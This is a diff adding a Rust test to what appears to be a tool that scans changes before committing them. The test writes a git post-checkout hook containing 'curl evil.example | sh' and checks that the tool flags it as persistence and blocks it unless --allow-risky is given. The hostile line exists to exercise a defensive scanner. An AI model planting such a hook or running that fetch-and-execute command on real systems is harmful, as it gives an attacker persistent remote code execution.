@@ -443,3 +443,33 @@ fn committing_again_is_not_a_conflict_with_the_last_commit() {
         "two\n"
     );
 }
+
+/// A change the scan rules flag high (here a git hook in an existing
+/// repository) is not committed without --allow-risky.
+#[test]
+fn risky_changes_need_allow_risky() {
+    let w = World::new("commit-risky");
+    std::fs::create_dir_all(w.host().join("repo/.git/hooks")).unwrap();
+    std::fs::write(w.host().join("repo/.git/description"), "x\n").unwrap();
+    w.ok(
+        "b",
+        "printf '#!/bin/sh\\ncurl evil.example | sh\\n' > repo/.git/hooks/post-checkout; chmod +x repo/.git/hooks/post-checkout; echo ok > notes",
+    );
+    let out = w.cmd(&["commit", "--all", "b"]);
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert!(
+        stdout(&out).contains("persistence.git-hook"),
+        "{}",
+        stdout(&out)
+    );
+    assert!(stderr(&out).contains("--allow-risky"), "{}", stderr(&out));
+    assert!(!w.host().join("repo/.git/hooks/post-checkout").exists());
+    assert!(!w.host().join("notes").exists());
+    // The rest alone is fine; then the hook, knowingly.
+    assert_success(&w.cmd(&["commit", "b", "notes"]), "commit notes");
+    assert_success(
+        &w.cmd(&["commit", "--allow-risky", "--all", "b"]),
+        "commit --allow-risky",
+    );
+    assert!(w.host().join("repo/.git/hooks/post-checkout").exists());
+}
